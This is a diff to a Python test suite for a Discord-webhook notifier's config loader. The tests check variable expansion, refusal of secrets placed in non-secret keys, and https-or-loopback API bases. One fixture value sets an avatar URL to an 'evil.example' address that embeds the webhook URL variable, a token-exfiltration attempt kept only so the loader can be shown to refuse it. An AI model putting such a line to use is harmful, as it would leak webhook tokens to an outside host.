@@ -288,10 +288,10 @@ def test_without_environment_the_file_counts(tmp_path: Path) -> None:
 
 
 def test_dotenv_beside_the_config_and_real_environment_wins(tmp_path: Path) -> None:
-    text = 'contact = "${CONTACT}"\n[poll]\nrate_limit = 10'
-    dotenv = "CONTACT=from-dotenv\nOSRS_RATE_LIMIT=20\nOSRS_CACHE_TTL=5\nPASSWORD=a$b\n"
+    text = 'redis = "${REDIS}"\n[poll]\nrate_limit = 10'
+    dotenv = "REDIS=redis://from-dotenv\nOSRS_RATE_LIMIT=20\nOSRS_CACHE_TTL=5\nPASSWORD=a$b\n"
     s = load(tmp_path, text, {"OSRS_RATE_LIMIT": "40"}, dotenv=dotenv)
-    assert s.contact == "from-dotenv"
+    assert s.redis_url == "redis://from-dotenv"
     assert s.poll.rate_limit == 40  # real environment beats .env
     assert s.poll.cache_ttl == 5  # .env beats the file
 
@@ -340,8 +340,8 @@ def test_bad_value_from_dotenv_names_the_dotenv_file(tmp_path: Path) -> None:
         ("${A:-fallback}", {"A": ""}, "fallback", ()),
         ("${A:-fallback}", {"A": "set"}, "set", ()),
         ("${A:-}", {}, "", ()),
-        ("${A}", {}, "", ("A (contact)",)),
-        ("pre-${A}-post", {}, "pre--post", ("A (contact)",)),
+        ("${A}", {}, "", ("A (redis)",)),
+        ("pre-${A}-post", {}, "pre--post", ("A (redis)",)),
         ("$$", {}, "$", ()),
         ("$${A}", {"A": "x"}, "${A}", ()),
         ("costs $5", {}, "costs $5", ()),
@@ -350,17 +350,79 @@ def test_bad_value_from_dotenv_names_the_dotenv_file(tmp_path: Path) -> None:
 )
 def test_variable_expansion(tmp_path: Path, value: str, env: dict[str, str], expected: str,
                             unset: tuple[str, ...]) -> None:
-    s = load(tmp_path, f"contact = '{value}'", env)
-    assert s.contact == expected
+    # redis is one of the keys whose variables are expanded (an address or a secret).
+    s = load(tmp_path, f"redis = 'redis://h/{value}'", env)
+    assert s.redis_url == f"redis://h/{expected}"
     assert s.unset_vars == unset
 
 
-def test_expansion_reaches_nested_strings_and_lists(tmp_path: Path) -> None:
+def test_expansion_reaches_webhook_urls_and_nothing_else_nested(tmp_path: Path) -> None:
     text = BASE.replace(f'url = "{URL}"\n\n[webhooks.market]', 'url = "${CLAN}"\n'
-                        'players = ["${WHO}"]\n\n[webhooks.market]')
-    s = load(tmp_path, text, {"CLAN": URL, "WHO": "Zezima"})
+                        '\n[webhooks.market]')
+    s = load(tmp_path, text, {"CLAN": URL})
     assert s.webhooks["clan"].address == WebhookAddress(ID, TOKEN)
-    assert s.webhooks["clan"].players == ("Zezima",)
+    nested = text.replace('url = "${CLAN}"\n', 'url = "${CLAN}"\nplayers = ["${WHO}"]\n')
+    e = error(tmp_path, nested, {"CLAN": URL, "WHO": "Zezima"})
+    assert e.key == "webhooks.clan.players[0]" and "only where a secret" in str(e)
+
+
+STEERING = [
+    # Each would carry the webhook's token somewhere other than its request path.
+    ('templates = { levelup = "${CLAN_WEBHOOK_URL}" }', "webhooks.clan.templates.levelup"),
+    ('avatar_url = "https://evil.example/${CLAN_WEBHOOK_URL}"', "webhooks.clan.avatar_url"),
+    ('username = "${CLAN_WEBHOOK_URL}"', "webhooks.clan.username"),
+]
+
+
+@pytest.mark.parametrize(("line", "key"), STEERING)
+def test_a_variable_outside_secret_keys_is_refused(tmp_path: Path, line: str, key: str) -> None:
+    text = f'[webhooks.clan]\nurl = "${{CLAN_WEBHOOK_URL}}"\n{line}\n'
+    e = error(tmp_path, text, {"CLAN_WEBHOOK_URL": URL})
+    assert e.key == key and "only where a secret or an address belongs" in str(e)
+    assert TOKEN not in str(e)
+
+
+def test_the_contact_sent_as_user_agent_may_not_name_a_variable(tmp_path: Path) -> None:
+    e = error(tmp_path, 'contact = "${CLAN_WEBHOOK_URL}"\n' + BASE, {"CLAN_WEBHOOK_URL": URL})
+    assert e.key == "contact" and TOKEN not in str(e)
+
+
+@pytest.mark.parametrize(
+    ("line", "key"),
+    [
+        (f'templates = {{ levelup = "{{player}} {TOKEN}" }}', "webhooks.clan.templates.levelup"),
+        (f'username = "{TOKEN}"', "webhooks.clan.username"),
+    ],
+)
+def test_a_token_written_out_anywhere_but_its_url_is_refused(
+    tmp_path: Path, line: str, key: str
+) -> None:
+    e = error(tmp_path, f'[webhooks.clan]\nurl = "{URL}"\n{line}\n')
+    assert e.key == key and "token" in str(e) and TOKEN not in str(e)
+
+
+@pytest.mark.parametrize(
+    ("base", "ok"),
+    [
+        ("https://discord.example/api/v10", True),
+        ("http://127.0.0.1:8080/api/v10", True),
+        ("http://[::1]:8080/api", True),
+        ("http://localhost/api", True),
+        ("http://proxy.example/api/v10", False),
+        ("http://10.0.0.5/api/v10", False),
+    ],
+)
+def test_discord_api_base_is_https_or_loopback(tmp_path: Path, base: str, ok: bool) -> None:
+    if ok:
+        assert load(tmp_path, "", {"DISCORD_API_BASE": base}).discord_api_base == base
+    else:
+        e = error(tmp_path, "", {"DISCORD_API_BASE": base})
+        assert "DISCORD_API_BASE" in str(e) and "plain http" in str(e)
+
+
+def test_a_config_nested_hundreds_deep_is_a_config_error(tmp_path: Path) -> None:
+    e = error(tmp_path, "x = " + "[" * 600 + "]" * 600 + "\n")
+    assert "osrs-notify.toml" in str(e) and "nested too deeply" in str(e)
 
 
 def test_unset_webhook_url_is_not_configured_not_an_error(tmp_path: Path) -> None:
